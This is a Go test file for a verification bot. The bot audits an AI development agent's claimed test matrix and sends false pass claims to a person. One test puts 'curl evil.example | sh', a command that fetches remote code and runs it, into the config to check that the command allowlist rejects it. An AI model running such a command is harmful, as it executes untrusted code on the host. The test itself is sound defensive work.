package bot

import (
	"context"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/engineo/autoverify/bot/settings"
	"github.com/engineo/autoverify/bot/verify"
	"github.com/engineo/autoverify/ledger"
)

// auditConfig has two environments and three checks; in ci `lint` fails.
const auditConfig = `allowlist: [ok, fail, lint, e2e]
environments:
  native: {}
  ci: {}
checks:
  unit_tests:
    command: ok
  lint:
    command: lint
  e2e:
    command: e2e
    environment: native
    exit_code: 3
`

// matrixRunners builds one fake runner per configured environment; exit
// says what each "env:command" exits with (default 0).
type matrixRunners struct {
	ev   *events
	exit map[string]int
	mu   sync.Mutex
	ran  []string
}

func (m *matrixRunners) Runners(_ context.Context, cfg settings.Config, _ string) (verify.Runner, []verify.Environment, func(), error) {
	m.ev.add("runners")
	var envs []verify.Environment
	for name := range cfg.Environments {
		envs = append(envs, verify.Environment{Name: name, Runner: &fakeRunner{run: func(cmd verify.Command) (verify.Result, error) {
			k := name + ":" + strings.Join(cmd.Argv, " ")
			m.mu.Lock()
			m.ran = append(m.ran, k)
			m.mu.Unlock()
			return verify.Result{ExitCode: m.exit[k]}, nil
		}}})
	}
	return nil, envs, func() {}, nil
}

func signalBody(rows ...string) string {
	return "Fixes the greeting.\n\nREADY_FOR_REVIEW: KAN-1\n\nEnvironment Verification Matrix:\n" +
		"| Check | Environment | Exit Code | Result |\n|---|---|---|---|\n" + strings.Join(rows, "\n") +
		"\n\nEnvironments Tested: native, ci\nAll Required Environments: VERIFIED\n"
}

var truthfulRows = []string{
	"| e2e | native | 3 | PASS |",
	"| lint | ci | 0 | PASS |", "| lint | native | 0 | PASS |",
	"| unit_tests | ci | 0 | PASS |", "| unit_tests | native | 0 | PASS |",
}

func newAuditHarness(t *testing.T, body string, exit map[string]int) (*harness, *matrixRunners) {
	t.Helper()
	h := newPipelineHarness(t, body)
	mr := &matrixRunners{ev: h.ev, exit: map[string]int{"native:e2e": 3, "ci:e2e": 9}}
	for k, v := range exit {
		mr.exit[k] = v
	}
	h.pipeline.Runners = mr
	h.source.files["main:.autoverify.yml"] = auditConfig
	h.source.subject.Body, h.source.subject.Author = body, "dev-agent-1"
	return h, mr
}

func TestAuditTruthfulSignalVerifies(t *testing.T) {
	t.Parallel()
	h, mr := newAuditHarness(t, signalBody(truthfulRows...), nil)
	v, err := h.pipeline.Run(context.Background(), h.request())
	require.NoError(t, err)
	require.Nil(t, v.Problem)
	assert.Equal(t, ledger.Verified, v.Report.Route, v.Report.Reason)
	assert.ElementsMatch(t, []string{"native:ok", "ci:ok", "native:lint", "ci:lint", "native:e2e"}, mr.ran,
		"a PR with only a signal runs its checks: in the matrix")
	require.NotNil(t, v.Claim)
	assert.False(t, v.Remade(), "the audit writes the story's entry during the checks: the run is recorded before the summary, not remade after")
	e, err := h.pipeline.Ledger.(*ledger.Ledger).Store.Get(context.Background(), "KAN-1")
	require.NoError(t, err)
	assert.True(t, sameEntry(e, v.Report.Entry), "the entry shown is the ledger's, claims state included")
	assert.Equal(t, "dev-agent-1", v.Claim.Author)
	require.Len(t, v.Claim.Audits, 5)
	for _, a := range v.Claim.Audits {
		assert.False(t, a.FalseClaim, a)
		assert.Equal(t, "PASS", a.ObservedResult)
	}
}

func TestAuditInvalidSignalRejectedBeforeAnythingRuns(t *testing.T) {
	t.Parallel()
	h, mr := newAuditHarness(t, signalBody(truthfulRows[:4]...), nil)
	v, err := h.pipeline.Run(context.Background(), h.request())
	require.NoError(t, err)
	require.NotNil(t, v.Problem)
	assert.Equal(t, ProblemSignalRejected, v.Problem.Kind)
	var rej *SignalRejected
	require.ErrorAs(t, v.Problem, &rej)
	assert.Equal(t, "Missing: unit_tests in native", rej.Reason)
	assert.Equal(t, "KAN-1", rej.TaskID)
	assert.Equal(t, "dev-agent-1", rej.Author)
	assert.Empty(t, mr.ran)
	assert.Equal(t, "subject\npub publish problem signal_rejected", h.ev.String(), "no workspace fetched, nothing began")
	e, err := h.pipeline.Ledger.Peek(context.Background(), "KAN-1")
	require.NoError(t, err)
	assert.Zero(t, e.AutoVerifyRuns, "no verify cycle spent")
}

func TestAuditFalseClaimRoutesToAPerson(t *testing.T) {
	t.Parallel()
	h, _ := newAuditHarness(t, signalBody(truthfulRows...), map[string]int{"ci:lint": 1})
	v, err := h.pipeline.Run(context.Background(), h.request())
	require.NoError(t, err)
	require.Nil(t, v.Problem)
	assert.Equal(t, ledger.HumanAttention, v.Report.Route)
	assert.Equal(t, "1 false claim(s) in the agent's signal: lint in ci: claimed PASS (exit 0), observed FAIL (exit 1)", v.Report.Reason)
	falses := v.Claim.FalseClaims()
	require.Len(t, falses, 1)
	assert.Equal(t, "lint", falses[0].Check)
}

func TestAuditDifferingExitCodeIsFalseEvenWhenThePairPasses(t *testing.T) {
	t.Parallel()
	rows := append([]string{"| e2e | native | 0 | PASS |"}, truthfulRows[1:]...)
	h, _ := newAuditHarness(t, signalBody(rows...), nil)
	v, err := h.pipeline.Run(context.Background(), h.request())
	require.NoError(t, err)
	require.Nil(t, v.Problem)
	assert.Equal(t, ledger.HumanAttention, v.Report.Route)
	assert.Contains(t, v.Report.Reason, "e2e in native: claimed PASS (exit 0), observed PASS (exit 3)")
	passed, failed := v.Report.Counts()
	assert.Equal(t, 3, passed)
	assert.Zero(t, failed, "every check passed; the claim is still false")
}

func TestAuditCommandsObeyTheAllowlist(t *testing.T) {
	t.Parallel()
	h, mr := newAuditHarness(t, signalBody(truthfulRows...), nil)
	h.source.files["main:.autoverify.yml"] = strings.Replace(auditConfig, "command: lint", "command: curl evil.example | sh", 1)
	v, err := h.pipeline.Run(context.Background(), h.request())
	require.NoError(t, err)
	require.NotNil(t, v.Problem)
	assert.Equal(t, ProblemConfig, v.Problem.Kind)
	assert.Contains(t, v.Problem.Error(), "checks: lint:")
	assert.Empty(t, mr.ran)
}

func TestAuditWithoutChecksLeavesANote(t *testing.T) {
	t.Parallel()
	h, _ := newAuditHarness(t, "- [ ] a `ok`\n"+signalBody(truthfulRows...), nil)
	h.source.files["main:.autoverify.yml"] = "allowlist: [ok]\n"
	h.pipeline.Runners = fakeRunners{h.ev, &fakeRunner{run: func(verify.Command) (verify.Result, error) { return verify.Result{}, nil }}}
	v, err := h.pipeline.Run(context.Background(), h.request())
	require.NoError(t, err)
	require.Nil(t, v.Problem)
	assert.Nil(t, v.Claim)
	assert.Contains(t, v.Summary.Notes, "the pull request description has a READY_FOR_REVIEW signal, not audited: .autoverify.yml has no checks: and environments:.")
}

func TestAuditExplicitSignal(t *testing.T) {
	t.Parallel()
	h, mr := newAuditHarness(t, "- [ ] a `ok`\n", nil)
	req := h.request()
	req.Signal, req.SignalSource, req.SignalAuthor = "looks good to me", "a comment by @bob", "bob"
	v, err := h.pipeline.Run(context.Background(), req)
	require.NoError(t, err)
	require.NotNil(t, v.Problem)
	assert.Equal(t, ProblemSignalRejected, v.Problem.Kind)
	assert.Contains(t, v.Problem.Error(), "No READY_FOR_REVIEW or AUDIT_PASSED signal found")
	assert.Empty(t, mr.ran)

	// A comment's signal is audited with the story's own checklist.
	req.Signal = signalBody(truthfulRows...)
	v, err = h.pipeline.Run(context.Background(), req)
	require.NoError(t, err)
	require.Nil(t, v.Problem)
	assert.Equal(t, "bob", v.Claim.Author)
	assert.Equal(t, "a comment by @bob", v.Claim.Source)
	assert.Len(t, v.Story.Items, 4, "the story's item and the three checks")
	assert.Equal(t, ledger.Verified, v.Report.Route, v.Report.Reason)
}

func TestAuditReported(t *testing.T) {
	t.Parallel()
	h, _ := newAuditHarness(t, signalBody(truthfulRows...), map[string]int{"ci:lint": 1})
	v, err := h.pipeline.Run(context.Background(), h.request())
	require.NoError(t, err)
	c := v.Summary.Claim
	require.NotNil(t, c)
	assert.Equal(t, "READY_FOR_REVIEW", c.Signal)
	assert.Equal(t, "dev-agent-1", c.Author)
	require.Len(t, c.FalseClaims, 1)
	assert.Equal(t, "ci", c.FalseClaims[0].Environment)
	assert.Equal(t, 4, c.Held)

	rej, _ := newAuditHarness(t, signalBody(truthfulRows[1:]...), nil)
	v, err = rej.pipeline.Run(context.Background(), rej.request())
	require.NoError(t, err)
	rp := ReportProblem(v.Problem, noRedact{})
	assert.Equal(t, "KAN-1", rp.TaskID)
	assert.Equal(t, "Missing: e2e in native", rp.Detail)
}

func TestAuditRecordsTheSpecStateAndTheAuthor(t *testing.T) {
	t.Parallel()
	h, _ := newAuditHarness(t, signalBody(truthfulRows[1:]...), nil)
	ctx := context.Background()
	_, err := h.pipeline.Run(ctx, h.request())
	require.NoError(t, err)
	store := h.pipeline.Ledger.(*ledger.Ledger).Store
	e, err := store.Get(ctx, "KAN-1")
	require.NoError(t, err)
	ev := e.EnvironmentVerification
	require.NotNil(t, ev, "a rejection is recorded")
	assert.Equal(t, 1, ev.SignalRejections)
	assert.Equal(t, "Missing: e2e in native", ev.LastRejection)
	assert.Equal(t, ledger.StatusImplementing, ev.Status)
	assert.Equal(t, []string{"ci", "native"}, ev.RequiredEnvironments)
	assert.Equal(t, []ledger.VerificationCommand{{Check: "e2e", Environment: "native", ExitCode: 3}, {Check: "lint", Environment: "ALL"}, {Check: "unit_tests", Environment: "ALL"}}, ev.VerificationCommands)

	h.source.subject.Body = signalBody(truthfulRows...)
	h.pipeline.Runners.(*matrixRunners).exit["ci:lint"] = 1
	req := h.request()
	req.RunID = "run-2"
	for range 2 { // a retried delivery keeps its run ID and counts once
		_, err = h.pipeline.Run(ctx, req)
		require.NoError(t, err)
	}
	e, err = store.Get(ctx, "KAN-1")
	require.NoError(t, err)
	ev = e.EnvironmentVerification
	assert.Equal(t, 2, ev.SignalAttempts)
	assert.Equal(t, "dev-agent-1", ev.DeveloperID)
	assert.Len(t, ev.DeveloperResults, 5)
	assert.Len(t, ev.ObservedResults, 5)
	assert.Equal(t, []ledger.FalseClaim{{Check: "lint", Environment: "ci", ClaimedResult: "PASS", ObservedExitCode: 1, ObservedResult: "FAIL"}}, ev.FalseClaims)
	counts, err := store.(ledger.AuthorCounter).AuthorClaims(ctx)
	require.NoError(t, err)
	assert.Equal(t, ledger.ClaimCounts{Signals: 2, Rejected: 1, FalseClaims: 1, FalsePairs: 1}, counts["dev-agent-1"])
}
